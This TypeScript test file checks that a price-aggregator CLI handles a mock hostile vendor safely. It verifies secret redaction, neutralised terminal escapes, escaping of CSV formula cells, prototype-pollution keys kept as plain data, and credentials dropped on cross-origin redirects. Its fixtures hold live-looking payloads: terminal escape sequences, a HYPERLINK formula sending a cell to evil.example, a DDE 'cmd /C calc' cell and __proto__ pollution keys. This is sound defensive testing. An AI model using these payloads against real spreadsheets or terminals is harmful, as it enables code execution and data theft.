/**
 * The built bin against a hostile vendor: escape sequences, `__proto__` keys, formula cells, a
 * secret echoed back, and a redirect to another origin. Every output stream, in every format and
 * under --verbose and AGG_DEBUG=1, is scanned for the secret and for anything a terminal acts on.
 * Needs `npm run build` (npm test's pretest does it).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runBin } from './helpers/bin.js';
import { writeConfig } from './helpers/config.js';
import { parseCsv, TERMINAL_ACTIVE } from './helpers/hostile.js';
import { json, startServer, type TestServer } from './helpers/server.js';

const SECRET = 'sk_live_h0stile_5ecret';
const FORMULA_START = /^[=+\-@\t\r]/;

let vendor: TestServer;
let elsewhere: TestServer;
beforeAll(async () => {
  // Another port is another origin (RFC 6454): what a redirect must not carry credentials to.
  elsewhere = await startServer((req, res) =>
    json(res, {
      items: [{ title: `landed, auth: ${req.headers.authorization ?? 'none'}`, price: 7, currency: 'USD' }],
    }),
  );
  vendor = await startServer((req, res) => {
    if (req.url?.startsWith('/hop')) {
      res.writeHead(302, { location: `${elsewhere.url}/landing` });
      res.end();
      return;
    }
    if (req.url?.startsWith('/fail')) {
      return json(res, { message: `bad key ${SECRET}\x1b]0;owned\x07\x1b[2J` }, { status: 500 });
    }
    // Written by hand: JSON.stringify would drop the `__proto__` key that JSON.parse keeps as data.
    const item = (fields: string) => `{"currency":"USD","url":"https://v.example/b?apiKey=${SECRET}",${fields}}`;
    const body = `{"items":[
      ${item(`"title":"Sony\\u001b]0;pwned\\u0007\\u001b[2J WH\\u202e-1000\\u009b31m","price":199,"seller":"\\u001b[31mred\\u001b[0m","meta":{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}`)},
      ${item(`"title":"=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\")","price":5,"seller":"@SUM(1+1)","meta":"+cmd|' /C calc'!A0"`)},
      ${item(`"title":"your key is ${SECRET}","price":12,"seller":"-2+3","meta":null`)},
      ${item(`"title":"string price","price":"12"`)},
      ${item(`"title":"infinite","price":1e999`)},
      ${item(`"title":"negative","price":-1`)}
    ]}`;
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(body);
  });
});
afterAll(async () => {
  await vendor.close();
  await elsewhere.close();
});

const agg = (args: string[], env: Record<string, string> = {}) =>
  runBin(args, { BASE: vendor.url, KEY: SECRET, ...env });

function config(): string {
  const fields = '{ title: title, price: price, currency: currency, url: url, seller: seller, meta: meta }';
  return writeConfig(
    [
      `
  - name: hostile
    request:
      url: "\${BASE}/search?apiKey=\${KEY}&q={{query}}"
      headers: { Authorization: "Bearer \${KEY}", X-Note: "\${KEY}" }
    offers: items
    fields: ${fields}`,
      `
  - name: hop
    request:
      url: "\${BASE}/hop?token=\${KEY}"
      headers: { Authorization: "Bearer \${KEY}", X-Vendor-Key: "\${KEY}", X-Trace: plain }
    offers: items
    fields: ${fields}`,
      `
  - name: broken
    request: { url: "\${BASE}/fail?key=\${KEY}" }
    retries: 0
    offers: items
    fields: ${fields}`,
    ],
    'currency: USD',
  );
}

/** Nothing secret and nothing terminal-active, in any stream. */
function expectClean(out: { stdout: string; stderr: string }): void {
  for (const text of [out.stdout, out.stderr]) {
    expect(text).not.toContain(SECRET);
    expect(text).not.toContain(encodeURIComponent(SECRET));
    // CSV rows end in CRLF (RFC 4180); that CR is the only one allowed.
    expect(text.replaceAll('\r\n', '\n')).not.toMatch(TERMINAL_ACTIVE);
  }
}

describe('a hostile vendor, through the built bin', () => {
  it('leaks no secret and no escape in any format, under --verbose or AGG_DEBUG=1', async () => {
    const file = config();
    const runs = await Promise.all([
      agg(['search', 'sony', '-c', file]),
      agg(['search', 'sony', '-c', file, '--verbose'], { AGG_DEBUG: '1' }),
      agg(['search', 'sony', '-c', file, '-f', 'csv']),
      agg(['search', 'sony', '-c', file, '--json', '--verbose']),
      agg(['search', 'sony', '-c', file, '-f', 'ndjson', '--verbose'], { AGG_DEBUG: '1' }),
      agg(['sources', '-c', file]),
      // A usage error under AGG_DEBUG=1 prints a stack: it is cleaned and redacted too.
      agg(['search', 'sony', '-c', file, '--where', '$nosuch()'], { AGG_DEBUG: '1' }),
    ]);
    for (const out of runs) expectClean(out);
    const [table, verbose, csv, json, , sources, debug] = runs as Required<typeof runs>;

    // Table: the row is kept and its escapes are shown, harmlessly.
    expect(table.code).toBe(0);
    expect(table.stdout).toContain('␛]0;pwned␇␛[2J WH<U+202E>-1000<U+009B>31m');
    expect(table.stdout).toContain('your key is ***');
    expect(table.stderr).toMatch(
      /broken\s+error\s+HTTP 500 Internal Server Error: GET \*\*\*\/fail\?key=\*\*\* \(bad key \*\*\*␛\]0;owned␇␛\[2J\)/,
    );
    expect(table.stderr).toMatch(/hostile\s+ok\s+dropped 3 items \(fields\.price: "12" is text, not a number/);
    expect(verbose.stderr).toMatch(/hostile: GET \*\*\*\/search\?apiKey=\*\*\*&q=sony → 200/);
    expect(verbose.stderr).toMatch(/hop: GET \*\*\*\/hop\?token=\*\*\* → 200/);
    expect(sources.stdout).toContain('***');
    expect(debug.code).toBe(2);
    expect(debug.stderr).toMatch(/^\s+at /m);

    // CSV: RFC 4180, and no text cell can start a formula.
    const rows = parseCsv(csv.stdout);
    for (const cell of rows.flat()) if (FORMULA_START.test(cell)) expect(Number.isNaN(Number(cell))).toBe(false);
    expect(rows.flat()).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(rows.flat()).toContain("'@SUM(1+1)");

    // JSON: `__proto__` and `constructor` stay data; negative, infinite and string prices were dropped.
    const doc = JSON.parse(json.stdout);
    const hostile = doc.offers.find((o: { title: string }) => o.title.startsWith('Sony'));
    expect(Object.hasOwn(hostile.meta, '__proto__')).toBe(true);
    expect(hostile.meta.constructor).toEqual({ prototype: { polluted: 'yes' } });
    expect(doc.offers.map((o: { price: number }) => o.price).sort((a: number, b: number) => a - b)).toEqual([
      5, 7, 12, 199,
    ]);
    expect(doc.sources.find((s: { name: string }) => s.name === 'hostile')).toMatchObject({ status: 'ok', dropped: 3 });
  });

  it('sends no Authorization and no secret header across a redirect to another origin', async () => {
    const before = elsewhere.requests.length;
    const out = await agg(['search', 'x', '-c', config(), '--source', 'hop', '--json']);
    expectClean(out);
    expect(JSON.parse(out.stdout).offers[0].title).toBe('landed, auth: none');
    const landed = elsewhere.requests.slice(before);
    expect(landed).toHaveLength(1);
    expect(landed[0]?.headers.authorization).toBeUndefined();
    // A header whose value came from the environment is a secret too, whatever its name.
    expect(landed[0]?.headers['x-vendor-key']).toBeUndefined();
    expect(landed[0]?.headers['x-trace']).toBe('plain');
    // The vendor itself got the header: the test would prove nothing if it had never been sent.
    expect(vendor.requests.find((r) => r.url.startsWith('/hop'))?.headers.authorization).toBe(`Bearer ${SECRET}`);
    expect(vendor.requests.find((r) => r.url.startsWith('/hop'))?.headers['x-vendor-key']).toBe(SECRET);
  });
});
